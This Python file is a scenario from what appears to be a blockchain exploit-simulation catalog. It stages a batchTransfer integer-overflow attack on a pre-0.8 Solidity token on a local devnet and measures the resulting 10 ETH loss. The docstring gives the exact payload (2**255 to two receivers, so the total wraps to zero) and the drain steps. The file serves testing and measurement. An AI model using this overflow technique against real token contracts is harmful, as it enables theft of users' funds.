"""Scenario `integer-overflow-token`: BEC-style `batchTransfer` overflow in a pre-0.8 token.

BatchToken (solc 0.7.6, no SafeMath) sells BATCH for ETH at 1,000 BATCH per ETH and buys it back
at the same rate. Alice, bob and carol buy 10 ETH worth; bob airdrops some to dave and erin with
`batchTransfer`. Mallory's BatchDrainer then deploys a throwaway BatchMinter whose constructor
calls `batchTransfer([drainer, mallory], 2**255)`: `2 * 2**255` wraps to 0, the balance check
passes, and both receivers are credited 2**255 BATCH. The drainer sells 10,000 BATCH back, taking
the token's whole 10 ETH reserve, and pays mallory.

Ground truth, measured on-chain per asset: the token loses its 10 ETH; the attacker side gains
that ETH less gas, and 2 * 2**255 BATCH less the 10,000 sold (balances read with balanceOf, not
summed from the Transfer events, which also claim the minter sent 2**256 BATCH it never had).
"""

from __future__ import annotations

from timemachine.catalog.builder import ETHER, create_address
from timemachine.catalog.devnet import actor_address
from timemachine.catalog.exploit import measure_exploit
from timemachine.catalog.models import ScenarioRecord
from timemachine.catalog.scenarios.base import declared
from timemachine.catalog.scenarios.contract import deploy
from timemachine.catalog.scenarios.world import World

ATTACKER = "mallory"
RATE = 1000
"""BATCH base units per wei."""
EXPLOIT_GAS = 1_000_000


async def stage(world: World) -> ScenarioRecord:
    """Sell BATCH to three buyers, airdrop honestly, then overflow; verify the exact loss."""
    chain, a = world.chain, actor_address
    token = await deploy(chain, "deployer", "BatchToken")
    await chain.mine()
    for user, amount in {"alice": 5, "bob": 3, "carol": 2}.items():
        await token.send(user, "buy", value=amount * ETHER)
    await token.send("bob", "batchTransfer", [a("dave"), a("erin")], 100 * 10**18)
    drainer = await deploy(chain, ATTACKER, "BatchDrainer")
    await chain.mine()

    minter = create_address(drainer.address, 1)  # the drainer's first CREATE (nonce 1)
    chain.label(minter, "BatchMinter")
    drain = await measure_exploit(
        chain,
        lambda: drainer.send(ATTACKER, "attack", token.address, gas=EXPLOIT_GAS),
        attackers=[a(ATTACKER), drainer.address, minter],
        victims=[token.address],
        tokens=[token.address],
        expected_losses={"ETH": 10 * ETHER},
        what="batchTransfer overflow",
    )
    return SCENARIO.exploited(
        drain, attacker=a(ATTACKER), contracts=[drainer.address, minter], victims=[token.address]
    )


SCENARIO = declared("integer-overflow-token", stage)
